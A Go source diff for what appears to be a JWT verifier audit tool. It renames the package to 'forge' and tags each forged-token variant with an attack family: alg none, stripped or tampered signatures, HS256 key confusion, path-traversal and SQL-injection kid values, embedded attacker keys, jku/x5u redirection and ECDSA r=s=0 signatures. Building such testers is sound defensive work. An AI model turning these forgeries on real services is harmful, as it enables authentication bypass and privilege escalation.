@@ -1,4 +1,4 @@
-package attacks
+package forge
 
 import (
 	"bytes"
@@ -29,6 +29,9 @@ type Variant struct {
 	Cite string
 	// Token is the forged token, carrying the genuine token's claims.
 	Token string
+	// Family groups variants that are one attack in several spellings or key forms:
+	// "alg-none", "signature", "confusion", "kid", "header-key", "header-url", "psychic".
+	Family string
 	// Fetch is "jku" or "x5u" when the forgery can only succeed if the verifier fetches the URL
 	// the token names (Options.KeyURL); empty otherwise.
 	Fetch string
@@ -158,7 +161,7 @@ func Forge(g Genuine, opts Options) ([]Variant, error) {
 		if err != nil {
 			return fmt.Errorf("forging %s: %w", name, err)
 		}
-		vs = append(vs, Variant{Name: name, Title: title, Cite: cite, Token: tok, Fetch: fetch, rebuild: build})
+		vs = append(vs, Variant{Name: name, Title: title, Cite: cite, Token: tok, Family: family(name), Fetch: fetch, rebuild: build})
 		return nil
 	}
 	noErr := func(f func(string) string) func(string) (string, error) {
@@ -166,7 +169,7 @@ func Forge(g Genuine, opts Options) ([]Variant, error) {
 	}
 	h := g.Header
 	for _, none := range []string{"none", "None", "NONE", "nOnE"} {
-		if err := add("alg-none-"+caseName(none), "alg "+none+" with an empty signature", citeNone+"; "+citeNoneCVE, "",
+		if err := add("alg-none-"+caseName(none), "alg "+none+" with an empty signature", CiteNone+"; "+CiteNoneCVE, "",
 			noErr(func(p string) string { return Unsigned(h, p, none) })); err != nil {
 			return nil, err
 		}
@@ -176,11 +179,11 @@ func Forge(g Genuine, opts Options) ([]Variant, error) {
 		name, title, cite string
 		build             func(string) (string, error)
 	}{
-		{"alg-none-with-signature", "alg none carrying the genuine signature", citeNone,
+		{"alg-none-with-signature", "alg none carrying the genuine signature", CiteNone,
 			noErr(func(p string) string { return UnsignedWithSignature(h, p, "none", sig) })},
-		{"signature-stripped", "the genuine header and claims with the signature removed", citeTamper,
+		{"signature-stripped", "the genuine header and claims with the signature removed", CiteTamper,
 			noErr(func(p string) string { return seg(h.JSON()) + "." + seg(p) + "." })},
-		{"tampered-payload", "claims edited (admin: true added) under the genuine header and signature", citeTamper,
+		{"tampered-payload", "claims edited (admin: true added) under the genuine header and signature", CiteTamper,
 			func(p string) (string, error) {
 				if p == g.Payload {
 					c := g.Claims.With("admin", true)
@@ -209,7 +212,7 @@ func Forge(g Genuine, opts Options) ([]Variant, error) {
 		}
 		for _, f := range forms {
 			secret := f.bytes
-			if err := add("confusion-hs256-"+f.name+suffix, "HS256 tagged with the public key"+kidNote(pk.Kid)+" as "+f.title, citeConfusion, "",
+			if err := add("confusion-hs256-"+f.name+suffix, "HS256 tagged with the public key"+kidNote(pk.Kid)+" as "+f.title, CiteConfusion, "",
 				noErr(func(p string) string { return HMAC(base, p, "HS256", secret) })); err != nil {
 				return nil, err
 			}
@@ -217,31 +220,31 @@ func Forge(g Genuine, opts Options) ([]Variant, error) {
 	}
 	if len(opts.KeySet) > 0 {
 		set := opts.KeySet
-		if err := add("confusion-hs256-jwks", "HS256 tagged with the whole published JWK Set", citeConfusion, "",
+		if err := add("confusion-hs256-jwks", "HS256 tagged with the whole published JWK Set", CiteConfusion, "",
 			noErr(func(p string) string { return HMAC(h, p, "HS256", set) })); err != nil {
 			return nil, err
 		}
 	}
 	for _, k := range PathTraversalKids {
 		kid := k.Kid
-		if err := add(k.Name, "HS256 with kid "+kid+", tagged with an empty key", citeKid, "",
+		if err := add(k.Name, "HS256 with kid "+kid+", tagged with an empty key", CiteKid, "",
 			noErr(func(p string) string { return HMAC(h.With("kid", kid), p, "HS256", nil) })); err != nil {
 			return nil, err
 		}
 	}
-	if err := add("kid-sql-injection", "HS256 whose kid is an SQL UNION selecting the attacker's secret", citeKid, "",
+	if err := add("kid-sql-injection", "HS256 whose kid is an SQL UNION selecting the attacker's secret", CiteKid, "",
 		noErr(func(p string) string {
 			return HMAC(h.With("kid", SQLInjectionKid), p, "HS256", []byte(SQLInjectionSecret))
 		})); err != nil {
 		return nil, err
 	}
 	atk := opts.Attacker
-	if err := add("embedded-jwk", "ES256 signed by the attacker, carrying the attacker's key in jwk", citeEmbeddedJWK, "",
+	if err := add("embedded-jwk", "ES256 signed by the attacker, carrying the attacker's key in jwk", CiteEmbeddedJWK, "",
 		func(p string) (string, error) { return EmbeddedJWK(h.Without("kid"), p, atk.Key, "") }); err != nil {
 		return nil, err
 	}
 	if kid, ok := h.String("kid"); ok && kid != "" {
-		if err := add("embedded-jwk-victim-kid", "ES256 signed by the attacker, naming the genuine kid and embedding its own key under it", citeEmbeddedJWK, "",
+		if err := add("embedded-jwk-victim-kid", "ES256 signed by the attacker, naming the genuine kid and embedding its own key under it", CiteEmbeddedJWK, "",
 			func(p string) (string, error) { return EmbeddedJWK(h, p, atk.Key, kid) }); err != nil {
 			return nil, err
 		}
@@ -252,13 +255,13 @@ func Forge(g Genuine, opts Options) ([]Variant, error) {
 	}
 	if opts.KeyURL != "" {
 		base := strings.TrimSuffix(opts.KeyURL, "/")
-		if err := add("jku-elsewhere", "ES256 signed by the attacker, jku naming the attacker's JWK Set (audit's own listener)", citeHeaderKeys+"; RFC 7515 §4.1.2", "jku",
+		if err := add("jku-elsewhere", "ES256 signed by the attacker, jku naming the attacker's JWK Set (audit's own listener)", CiteHeaderKeys+"; RFC 7515 §4.1.2", "jku",
 			func(p string) (string, error) {
 				return Sign(h.With("alg", "ES256").With("kid", AttackerKid).With("jku", base+JKUPath), p, atk.Key)
 			}); err != nil {
 			return nil, err
 		}
-		if err := add("x5u-elsewhere", "ES256 signed by the attacker, x5u naming the attacker's certificate (audit's own listener)", citeHeaderKeys+"; RFC 7515 §4.1.5", "x5u",
+		if err := add("x5u-elsewhere", "ES256 signed by the attacker, x5u naming the attacker's certificate (audit's own listener)", CiteHeaderKeys+"; RFC 7515 §4.1.5", "x5u",
 			func(p string) (string, error) {
 				return Sign(h.Without("kid").With("alg", "ES256").With("x5u", base+X5UPath), p, atk.Key)
 			}); err != nil {
@@ -266,16 +269,30 @@ func Forge(g Genuine, opts Options) ([]Variant, error) {
 		}
 	}
 	for _, alg := range []string{"ES256", "ES384", "ES512"} {
-		if err := add("ecdsa-psychic-"+strings.ToLower(alg), alg+" with the signature r = s = 0", citePsychic, "",
+		if err := add("ecdsa-psychic-"+strings.ToLower(alg), alg+" with the signature r = s = 0", CitePsychic, "",
 			func(p string) (string, error) { return Psychic(h, p, alg) }); err != nil {
 			return nil, err
 		}
 	}
-	if err := add("ecdsa-r-s-equal-order", "ES256 with r = s = n, the curve order", citePsychic, "",
+	if err := add("ecdsa-r-s-equal-order", "ES256 with r = s = n, the curve order", CitePsychic, "",
 		noErr(func(p string) string { return PsychicOrder(h, p) })); err != nil {
 		return nil, err
 	}
 	return vs, nil
+}
+
+// family is the Family of a variant by its name.
+func family(name string) string {
+	for _, f := range []struct{ prefix, family string }{
+		{"alg-none-", "alg-none"}, {"signature-", "signature"}, {"tampered-", "signature"},
+		{"confusion-", "confusion"}, {"kid-", "kid"}, {"embedded-jwk", "header-key"}, {"x5c-", "header-key"},
+		{"jku-", "header-url"}, {"x5u-", "header-url"}, {"ecdsa-", "psychic"},
+	} {
+		if strings.HasPrefix(name, f.prefix) {
+			return f.family
+		}
+	}
+	return name
 }
 
 func kidNote(kid string) string {
